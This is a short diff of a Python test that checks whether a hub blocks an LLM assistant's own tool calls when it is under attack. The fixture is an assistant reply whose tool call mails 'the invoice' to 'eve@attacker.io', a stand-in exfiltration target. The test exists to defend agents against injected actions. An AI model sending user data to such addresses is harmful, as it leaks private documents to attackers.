@@ -179,7 +179,7 @@ def test_the_hub_checks_an_apps_own_calls_in_every_llm_reply(launcher, data_dir,
         reply = ChatMessage(role="assistant", content="", tool_calls=[
             ToolCall(id="1", name="send_gmail_message",
                      args={"to": "eve@attacker.io", "subject": "x", "message": "the invoice"})])
-        checked = operator._check_own_calls(handle, reply)
+        checked, _ = operator._check_own_calls(handle, reply)
     assert bool(checked.tool_calls) is attacked
     if not attacked:
         assert "did not run send_gmail_message" in checked.content
